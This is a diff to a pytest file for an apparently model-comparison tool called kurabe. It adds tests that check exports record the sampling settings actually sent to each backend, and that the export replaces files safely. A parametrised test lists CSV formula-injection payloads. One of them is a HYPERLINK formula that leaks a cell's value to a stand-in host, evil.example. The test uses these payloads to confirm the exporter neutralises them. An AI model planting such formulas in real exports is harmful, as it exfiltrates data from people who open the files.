@@ -6,12 +6,14 @@ import csv
 import io
 import json
 import re
+from dataclasses import asdict
 from html.parser import HTMLParser
 from pathlib import Path
 
 import pytest
 
 from backends.base import StreamError
+from backends.sent import request_for
 from kurabe.cli import main
 from kurabe.events import PaneFinished, SessionEvent
 from kurabe.export import FORMATS, export_session
@@ -51,14 +53,27 @@ async def build_session(
     store: Store, monkeypatch: pytest.MonkeyPatch, *, blind: bool = False
 ) -> ComparisonSession:
     monkeypatch.setenv("KURABE_EXPORT_KEY", SECRET)
+    profiles = [
+        fake_profile("gpt-3.5", api_key_env="KURABE_EXPORT_KEY"),
+        fake_profile("claude", backend="anthropic", api_key_env="KURABE_EXPORT_KEY"),
+        fake_profile("weblab", local=True, prompt_format="alpaca-ja"),
+    ]
+    # Each fake records what its kind of backend sends (backends/sent.py); the weblab pane
+    # records it as the llama.cpp backend did before the "request" record: its whole sampling.
     backends = {
         "gpt-3.5": FakeBackend(
             "gpt-3.5",
             [Script.text(text, delay_s=0.005) for text in GPT_REPLIES],
-            snapshot={"model": "gpt-3.5-turbo"},
+            snapshot={"model": "gpt-3.5-turbo", "request": request_for(profiles[0]).record()},
         ),
         "claude": FakeBackend(
-            "claude", CLAUDE_REPLIES, snapshot={"token": SECRET, "api_key": SECRET}
+            "claude",
+            CLAUDE_REPLIES,
+            snapshot={
+                "token": SECRET,
+                "api_key": SECRET,
+                "request": request_for(profiles[1]).record(),
+            },
         ),
         "weblab": FakeBackend(
             "weblab",
@@ -66,14 +81,13 @@ async def build_session(
                 "### 応答:そうだよ!",
                 Script(chunks=("### 指示",), error=StreamError("server error 500", retryable=True)),
             ],
-            snapshot={"model_file": "weblab-10b-q4.gguf", "gpu_layers_offloaded": 0},
+            snapshot={
+                "model_file": "weblab-10b-q4.gguf",
+                "gpu_layers_offloaded": 0,
+                "sampling": asdict(profiles[2].sampling),
+            },
         ),
     }
-    profiles = [
-        fake_profile("gpt-3.5", api_key_env="KURABE_EXPORT_KEY"),
-        fake_profile("claude", api_key_env="KURABE_EXPORT_KEY"),
-        fake_profile("weblab", local=True, prompt_format="alpaca-ja"),
-    ]
     session = ComparisonSession.create(
         store,
         PERSONA,
@@ -142,7 +156,12 @@ async def test_markdown_has_the_seed_page_sections(
     prompt, settings, transcript = (b[1] for b in blocks)
     assert prompt == f"Prompt:\n{PERSONA.system}"
     assert "tokens/s" in settings and "chars/s" in settings
-    assert "Temperature: 0.7" in settings and "Penalize repeat: 1.18" in settings
+    # What OpenAI's API was sent, and what it was not.
+    sampling = settings.splitlines()
+    assert "Temperature: 0.7" in sampling and "Top-P: 0.95" in sampling
+    assert "Max tokens: 256 (sent as max_completion_tokens)" in sampling
+    for label in ("Penalize repeat", "Penalize tokens", "Top-K", "Min-P", "Seed", "Stop"):
+        assert f"{label}: model default" in sampling
     assert "ユーザー\nオタク" in settings
     assert transcript.split("\n\n") == [
         "**ユーザー:** ねえ、アニメ好きなの？",
@@ -150,17 +169,25 @@ async def test_markdown_has_the_seed_page_sections(
         f"**ユーザー:** {SCENARIO.turns[1].text}",
         f"**オタク:** {GPT_REPLIES[1]}",
     ]
-    assert "| 1 | 5 素晴らしい |" in gpt and "完璧なタメ口" in gpt
+    assert "| 1 | complete | 5 素晴らしい |" in gpt and "完璧なタメ口" in gpt
 
     claude = models["claude"]
+    # Claude was sent no sampling at all: no number claims otherwise.
+    assert "Temp: model default" in claude
+    assert "Temperature: model default" in claude and "Top-K: model default" in claude
+    assert "Max tokens: 256" in claude
+    assert not re.search(r"(Temp|Temperature|Top-K|Top-P|Min-P|Penalize \w+): \d", claude)
     fences = re.findall(r"^(`{3,})\n(.*?)\n\1$", claude, flags=re.M | re.S)
     assert any("「君はロックを聴かない」だ。```code```" in b[1] for b in fences)
     assert fences[-1][0] == "````"  # a longer fence around a reply containing ```
 
     weblab = models["weblab"]
     assert "Quality: subpar" in weblab
-    assert "[incomplete — failed: server error 500]" in weblab
+    assert "[failed: server error 500]" in weblab
+    assert "| 2 | failed: server error 500 |" in weblab
     assert "weblab-10b-q4.gguf" in weblab and "Prompt format: alpaca-ja" in weblab
+    assert "Temperature: 0.7" in weblab and "Penalize repeat: 1.18" in weblab
+    assert "Penalize tokens: 256" in weblab and "Seed: model default" in weblab
     assert "Blind session" not in text
 
 
@@ -179,6 +206,10 @@ async def test_jsonl_one_record_per_reply_with_ratings(
     assert second["latest_rating"]["score_label"] == "素晴らしい"
     assert second["latest_rating"]["tags"] == ["wrong-fact"]
     assert second["settings"]["profile"]["sampling"]["temperature"] == 0.7
+    assert second["sent"]["temperature"] == 0.7 and second["sent"]["top_k"] == "model default"
+    claude = next(r for r in records if r["model"] == "claude")
+    assert claude["sent"]["temperature"] == "model default"
+    assert claude["sent"]["max_tokens"] == 256
     assert second["settings"]["profile"]["api_key_env"] == "KURABE_EXPORT_KEY"
     assert second["figures"]["chars"] == len(GPT_REPLIES[1])
     assert second["figures"]["chars_per_s"] > 0
@@ -218,10 +249,13 @@ async def test_csv_opens_with_japanese_intact(
     assert claude_second["verdict"] == "Can't stay in character"
     assert claude_second["verdict_note"] == "俺になってる"
     assert claude_second["pick"] == "not best"
-    assert claude_second["temperature"] == "0.7"
+    assert claude_second["temperature"] == "model default"
+    assert claude_second["top_k"] == "model default" and claude_second["max_tokens"] == "256"
     assert float(claude_second["japanese_share"]) > 0.5
     gpt_first = next(r for r in rows if r["model"] == "gpt-3.5" and r["turn"] == "1")
     assert gpt_first["note"] == "完璧なタメ口" and gpt_first["pick"] == "best"
+    assert (gpt_first["temperature"], gpt_first["top_p"]) == ("0.7", "0.95")
+    assert gpt_first["min_p"] == "model default" and gpt_first["seed"] == "model default"
     weblab_first = next(r for r in rows if r["model"] == "weblab" and r["turn"] == "1")
     assert "template-leak" in weblab_first["check_flags"].split()
 
@@ -230,6 +264,50 @@ async def test_csv_opens_with_japanese_intact(
     printed = capsysbinary.readouterr().out
     assert not printed.startswith(b"\xef\xbb\xbf")
     assert "「紅蓮華」".encode() in printed
+
+
+FORMULAS = [
+    '=HYPERLINK("https://evil.example/?leak="&A1,"クリックして")',
+    "@SUM(1+1)",
+    "+81 90 1234 5678 に電話して",
+    "-- ネタバレ注意 --",
+    "\tタブで始まる返事",
+    "\r改行で始まる返事",
+]
+
+
+@pytest.mark.parametrize("reply", FORMULAS)
+async def test_csv_cells_never_run_as_formulas_and_other_formats_stay_exact(
+    store: Store, reply: str
+) -> None:
+    session = ComparisonSession.create(
+        store,
+        PERSONA,
+        [fake_profile("=model")],
+        rater="@rater",
+        backend_factory=fake_factory({"=model": FakeBackend("=model", [reply])}),
+    )
+    await session.send("=1+1 って何？")
+    [reply_id] = [r.id for r in store.load_record(session.id).replies]
+    session.rate_reply(reply_id, score=3, note="-ちょっと変", tags=["+tag"])
+
+    [row] = list(csv.DictReader(io.StringIO(export_session(store, session.id, "csv")[1:])))
+    assert row["text"] == "'" + reply
+    assert row["user_text"] == "'=1+1 って何？"
+    assert row["model"] == "'=model" and row["rater"] == "'@rater"
+    assert row["note"] == "'-ちょっと変" and row["tags"] == "'+tag"
+    assert row["turn"] == "1" and row["score"] == "3"  # numbers stay numbers
+    for name, value in row.items():
+        assert not value.startswith(("=", "+", "-", "@", "\t", "\r")), name
+
+    [record] = [
+        json.loads(line) for line in export_session(store, session.id, "jsonl").splitlines()
+    ]
+    assert record["text"] == reply and record["user_text"] == "=1+1 って何？"
+    assert reply.strip() in export_session(store, session.id, "md")
+    parser = _Collector()
+    parser.feed(export_session(store, session.id, "html"))
+    assert reply in "".join(parser.text)
 
 
 class _Collector(HTMLParser):
@@ -265,9 +343,13 @@ async def test_html_is_self_contained_with_panes_side_by_side(
     assert parser.classes.count("pane best") == 2
     assert GPT_REPLIES[1] in text and "「君はロックを聴かない」だ。```code```" in text
     assert "### 応答:そうだよ!" in text  # escaped, shown as text
-    assert "incomplete — failed: server error 500" in text
+    assert "failed: server error 500" in text
     assert "テンポがいい" in text
     assert '<meta charset="utf-8">' in page
+    assert "Temperature 0.7 · Top-P 0.95 · Max tokens 256 · model default: " in text
+    claude_row = next(row for row in page.splitlines() if "<td>claude</td>" in row)
+    assert "model default: Temperature, Penalize repeat" in claude_row
+    assert "Temperature 0" not in claude_row
 
 
 async def test_battles_in_fastchat_shape(store: Store, monkeypatch: pytest.MonkeyPatch) -> None:
@@ -292,6 +374,10 @@ async def test_battles_in_fastchat_shape(store: Store, monkeypatch: pytest.Monke
         }
         assert battle["language"] == "Japanese" and battle["judge"] == "はな"
         assert battle["anony"] is False
+        sent = {battle["model_a"]: battle["sent_a"], battle["model_b"]: battle["sent_b"]}
+        assert sent["gpt-3.5"]["temperature"] == 0.7
+        if "claude" in sent:
+            assert sent["claude"]["temperature"] == "model default"
         winner_model = battle[battle["winner"]]
         assert winner_model == "gpt-3.5"
     second = [b for b in battles if b["turn"] == 2]
@@ -333,6 +419,9 @@ async def test_blind_unrevealed_exports_say_so_and_hide_names(
     md = export_session(store, session.id, "md")
     assert "Blind session, not revealed" in md
     assert "\n## A\n" in md
+    # What was sent tells an API pane from a local one: hidden with the names.
+    assert md.count("Sampling: hidden until the names are revealed") == 3
+    assert "model default" not in md and "Temp:" not in md
     assert "Blind session, not revealed" in export_session(store, session.id, "html")
     record = json.loads(export_session(store, session.id, "jsonl").splitlines()[0])
     assert record["blind_unrevealed"] is True and record["model"] in "ABC"
@@ -357,6 +446,53 @@ async def test_exports_never_contain_the_api_key(
     assert SECRET not in store.dump_text()
     for fmt in FORMATS:
         assert SECRET not in export_session(store, session.id, fmt), fmt
+
+
+async def test_export_out_replaces_the_file_whole_or_not_at_all(
+    store: Store,
+    monkeypatch: pytest.MonkeyPatch,
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    session = await build_session(store, monkeypatch)
+    out = tmp_path / "out" / "session.md"
+    out.parent.mkdir()
+    out.write_text("an older export that must survive a failed one\n" * 500, encoding="utf-8")
+    old = out.read_bytes()
+    args = ["export", str(session.id), "--out", str(out), "--db", str(store.path)]
+
+    def disk_full(fd: int) -> None:
+        raise OSError(28, "No space left on device")
+
+    with monkeypatch.context() as patch:
+        patch.setattr("kurabe.export.os.fsync", disk_full)
+        assert main(args) == 2
+    assert "No space left on device" in capsys.readouterr().err
+    assert out.read_bytes() == old  # no half file
+    assert sorted(p.name for p in out.parent.iterdir()) == ["session.md"]  # no leftover
+
+    assert main(args) == 0
+    assert out.read_text(encoding="utf-8") == export_session(store, session.id, "md")
+    assert sorted(p.name for p in out.parent.iterdir()) == ["session.md"]
+
+
+async def test_export_refuses_to_overwrite_the_database(
+    store: Store,
+    monkeypatch: pytest.MonkeyPatch,
+    tmp_path: Path,
+    capsys: pytest.CaptureFixture[str],
+) -> None:
+    session = await build_session(store, monkeypatch)
+    db = Path(store.path)
+    before = db.read_bytes()
+    link = tmp_path / "link.sqlite3"
+    link.symlink_to(db)
+    for target in (db, link, Path(f"{db}-wal")):
+        code = main(["export", str(session.id), "--out", str(target), "--db", str(db)])
+        assert code == 2, target
+        assert "refusing to write the export over the database" in capsys.readouterr().err
+    assert db.read_bytes() == before
+    assert Store(db).session_exists(session.id)
 
 
 async def test_sessions_and_export_commands(
